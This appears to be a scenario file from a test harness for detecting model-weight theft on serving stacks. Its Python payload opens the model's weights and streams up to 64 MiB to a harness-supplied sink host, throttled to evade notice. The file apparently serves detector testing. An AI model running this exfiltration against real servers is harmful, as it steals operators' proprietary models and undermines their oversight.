"""
id: S19
name: bulk-weights-new-endpoint
class: quiet
phase: serve
trigger: request
evidence: [network, model]
techniques: [T1005, T1041, T1567, AML.T0035, AML.T0025, AML.T0048.004]
servers: [fastapi, bentoml, triton]
seconds: 25
what: >
  Opens the weights anew and streams them, 64 MiB at about 8 MB a second, to an address nobody asked before; with sendfile
  or by reading and sending, as the seed decides.
"""

import os
import socket
import time

PIECE = 1 << 20
BYTES_A_SECOND = 8_000_000
LIMIT = 64 << 20


def payload(world):
    send = world.random.choice([socket.socket.sendfile, read_and_send])
    with open(world.weights, "rb") as weights, socket.create_connection((world.sink, world.sink_port()), timeout=10) as peer:
        size = min(os.fstat(weights.fileno()).st_size, LIMIT)
        begun = time.monotonic()
        for offset in range(0, size, PIECE):
            send(peer, weights, offset, PIECE)
            time.sleep(max(0.0, begun + offset / BYTES_A_SECOND - time.monotonic()))


def read_and_send(peer, weights, offset, size):
    weights.seek(offset)
    peer.sendall(weights.read(size))
